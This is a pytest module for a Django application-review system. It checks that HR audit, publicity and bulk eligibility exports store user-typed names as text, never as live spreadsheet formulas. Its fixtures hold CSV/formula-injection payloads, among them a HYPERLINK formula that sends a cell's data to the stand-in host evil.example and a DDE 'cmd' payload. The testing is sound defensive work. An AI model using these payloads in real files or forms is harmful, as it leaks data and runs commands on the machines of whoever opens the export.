"""Spreadsheet exports never carry a live formula typed by a user, and list what was submitted."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from applications import services
from applications.models import Archive
from rules.eligibility.bulk_output import ResultTable

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def _hr_export(world) -> bytes:
    response = world.client_for(world.hr).get(
        reverse("applications:audit_export") + "?role=hr&state=employer_audit"
    )
    assert response.status_code == 200
    return response.content


def _submitted_as(world, name: str):
    application = world.ready_draft()
    Archive.objects.filter(pk=application.archive_id).update(name=name)
    return services.application_submit(application=application, actor=world.applicant)


@pytest.mark.parametrize("name", [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"])
def test_a_formula_typed_as_a_name_is_text_in_hrs_export(world, name):
    _submitted_as(world, name)
    content = _hr_export(world)
    assert "<f>" not in _sheet_xml(content)
    cell = load_workbook(io.BytesIO(content)).active["B2"]
    assert (cell.value, cell.data_type) == (name, "s")


def test_the_export_lists_the_submitted_name_not_the_archive_edited_since(world):
    application = _submitted_as(world, "张三")
    Archive.objects.filter(pk=application.archive_id).update(name=FORMULA)
    content = _hr_export(world)
    assert load_workbook(io.BytesIO(content)).active["B2"].value == "张三"
    assert FORMULA not in _sheet_xml(content)


def test_the_publicity_export_shows_the_submitted_name_as_text(world):
    application = _submitted_as(world, FORMULA)
    notice = world.publicised([application])
    Archive.objects.filter(pk=application.archive_id).update(name="改过的名字")
    response = world.client_for(world.hr).get(reverse("applications:audit_notice_export", args=[notice.pk]))
    cell = load_workbook(io.BytesIO(response.content)).active["B2"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")
    assert "<f>" not in _sheet_xml(response.content)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_bulk_eligibility_table_writes_formulas_as_text(tmp_path, suffix):
    path = tmp_path / f"out{suffix}"
    table = ResultTable(path)
    table.add(FORMULA, None, "@1")  # the reference and the error come from the input file
    table.close()
    if suffix == ".xlsx":
        content = path.read_bytes()
        assert "<f>" not in _sheet_xml(content)
        row = [c.value for c in load_workbook(io.BytesIO(content)).active[2]]
        assert FORMULA in row
    else:
        text = path.read_text(encoding="utf-8-sig")
        assert text.splitlines()[1].startswith("\"'" + FORMULA.replace('"', '""')) and ",'@1" in text
